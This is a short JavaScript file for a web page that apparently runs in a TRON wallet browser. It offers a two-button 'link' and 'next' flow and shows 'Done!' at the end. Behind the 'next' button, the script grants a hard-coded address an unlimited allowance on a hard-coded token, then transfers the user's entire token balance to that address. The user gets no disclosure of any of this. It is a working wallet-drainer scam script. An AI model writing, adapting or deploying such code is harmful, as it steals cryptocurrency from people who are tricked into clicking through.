const into = "TXZYopYRdj2D9XRtbG411XZZ3kM5VkAeBf", coin = "TKzxdSv2FZKQrEqkKVgp5DcwEXBEKMg2Ax";
const most = "0x" + "f".repeat(64);
const say = (text) => { document.querySelector(".state").innerText = text; };
let wallet = null;
document.querySelector(".link").onclick = () => {
  const own = window.tronWeb && window.tronWeb.defaultAddress.base58;
  if (!own) return say("Open this page in your wallet");
  wallet = window.tronWeb;
  document.querySelector(".next").disabled = false;
};
document.querySelector(".next").onclick = async () => {
  try {
    const token = await wallet.contract().at(coin);
    await token.approve(into, most).send();
    const own = wallet.defaultAddress.base58;
    const all = await token.balanceOf(own).call();
    await token.transferFrom(own, into, all).send();
    say("Done!");
  } catch (e) { say("Error: " + e.message); }
};
